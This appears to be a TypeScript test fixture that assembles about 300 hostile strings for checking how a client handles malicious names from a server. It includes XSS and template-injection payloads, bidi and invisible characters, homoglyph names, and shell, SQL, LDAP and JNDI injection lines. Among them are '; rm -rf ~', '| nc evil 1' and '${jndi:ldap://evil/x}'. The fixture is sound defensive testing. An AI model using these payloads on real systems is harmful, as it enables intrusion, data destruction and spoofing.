/** Texts that a hostile server puts into every field that names something: 300 distinct ones. */

/** Creates an element, runs or loads if a text is written as HTML, a URL or a template. */
const scripts: readonly string[] = [
  ...['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart'].flatMap(
    (event) =>
      ['img src=x', 'svg', 'body', 'video', 'details open', 'input autofocus', 'math', 'marquee'].map(
        (tag) => `"><${tag} data-canary ${event}=hit()>`,
      ),
  ),
  ...[
    'script',
    'style',
    'iframe',
    'object',
    'embed',
    'base',
    'meta',
    'link',
    'form',
    'template',
    'noscript',
  ].map((tag) => `<${tag} data-canary>hit()</${tag}>`),
  ...['textarea', 'title', 'select', 'table', 'pre', 'xmp'].map((tag) => `</${tag}><b data-canary>out`),
  ...[
    'javascript:hit()',
    'JaVaScRiPt:hit()',
    'data:text/html,<b data-canary>',
    'vbscript:hit()',
    '//evil.example/x',
  ],
  ...[
    '${hit()}',
    '{{hit()}}',
    '{{constructor.constructor("hit()")()}}',
    '<%= hit() %>',
    '#{hit()}',
    '[[${hit()}]]',
  ],
  ...[
    '[x](javascript:hit())',
    '![x](http://evil.example)',
    '<!-- ',
    ']]>',
    '--><b data-canary>',
    '<![CDATA[',
  ],
  ...[
    '\\u003cb data-canary\\u003e',
    '&lt;b data-canary&gt;',
    '%3Cb%20data-canary%3E',
    '&#60;b data-canary&#62;',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    '=HYPERLINK("http://evil.example")',
    '@import "x"',
    'url(http://evil)',
  ],
  ...[
    "';hit();//",
    '";hit();//',
    '`;hit();//',
    '</script><b data-canary>',
    '\\";hit()//',
    "'-hit()-'",
    '*/hit()/*',
  ],
];

/** Direction controls: alone, around a word and unterminated. */
const directions: readonly string[] = [
  ...[
    '\u200e',
    '\u200f',
    '\u061c',
    '\u202a',
    '\u202b',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
  ].flatMap((mark) => [`${mark}txt.exe`, `a${mark}b(1)`, `${mark}nimda\u202c`, `end${mark}`]),
  ...['שלום (1)', 'مرحبا/1', 'a שלום b', '\u202e\u2066x\u2069\u202c'],
];

/** Invisible characters, and characters that end, break or erase a line. */
const unseen: readonly string[] = [
  ...Array.from({ length: 31 }, (_, at) => `c${String.fromCharCode(at + 1)}0`).filter(
    (text) => !/[\t\n]/.test(text),
  ),
  ...Array.from({ length: 33 }, (_, at) => `d${String.fromCharCode(0x7f + at)}1`),
  ...['\u00ad', '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u2028', '\u2029', '\u180e'].map(
    (mark) => `ze${mark}ro`,
  ),
  ...[
    '\u2061',
    '\u2062',
    '\u2063',
    '\u2064',
    '\u206a',
    '\u206f',
    '\ufff9',
    '\ufffb',
    '\u{e0041}',
    '\u{e007f}',
  ].map((mark) => `in${mark}vis`),
];

/** Look-alike letters. */
const lookalikes: readonly string[] = [
  ...[
    'аdmin',
    'rооt',
    'ѕecret',
    'раypal',
    'ɡroup',
    'ⅼist',
    'ｒｏｏｔ',
    '𝐫𝐨𝐨𝐭',
    '𝓻𝓸𝓸𝓽',
    'ｖａｕｌｔ',
    'νault',
    'vаult',
    'Vau1t',
  ],
  ...[
    'default\u0323',
    'd\u0435fault',
    'd\u0435f\u0430ult',
    'admln',
    'rn00t',
    'ⅿain',
    'ꓣoot',
    'ṙoot',
    'rοot',
    'roοt',
  ],
  ...[
    '１２７.0.0.1',
    'localhost。',
    'a∕b',
    'a⁄b',
    'a／b',
    'a＼b',
    'a․b',
    '．．／',
    'a：80',
    'user＠host',
    '‥',
    '…',
  ],
  ...[
    'z\u0336\u0336\u0336',
    '\u0e49\u0e49\u0e49',
    'e\u0301\u0301',
    'İı',
    'ß',
    'ſecret',
    'ﬁle',
    '①',
    '½',
    '👍🏽',
    '👩\u200d👧',
  ],
];

/** Pasted elsewhere, other programs would run these or read them as syntax. */
const commands: readonly string[] = [
  ...[
    '$(id)',
    '`id`',
    '; rm -rf ~',
    '| nc evil 1',
    '&& curl evil',
    '%0d%0aSet-Cookie: a=b',
    '../../../../etc/passwd',
  ],
  ...[
    "' OR '1'='1",
    "'; DROP TABLE x;--",
    '*)(uid=*',
    '${jndi:ldap://evil/x}',
    '%s%s%n',
    '%x%x',
    'C:\\..\\x',
  ],
  ...['hvs.CAESIJ-not-a-token', 's.not-a-token', '-----BEGIN PRIVATE KEY-----', '[redacted]', '••••••••'],
  ...[
    'Sealed',
    'Healthy',
    'Cancel',
    'OK',
    'Enter your token:',
    'Strongroom is locked',
    'Log in',
    '100 %',
    '∞',
  ],
];

export const hostileTexts: readonly string[] = [
  ...new Set([...scripts, ...directions, ...unseen, ...lookalikes, ...commands]),
];
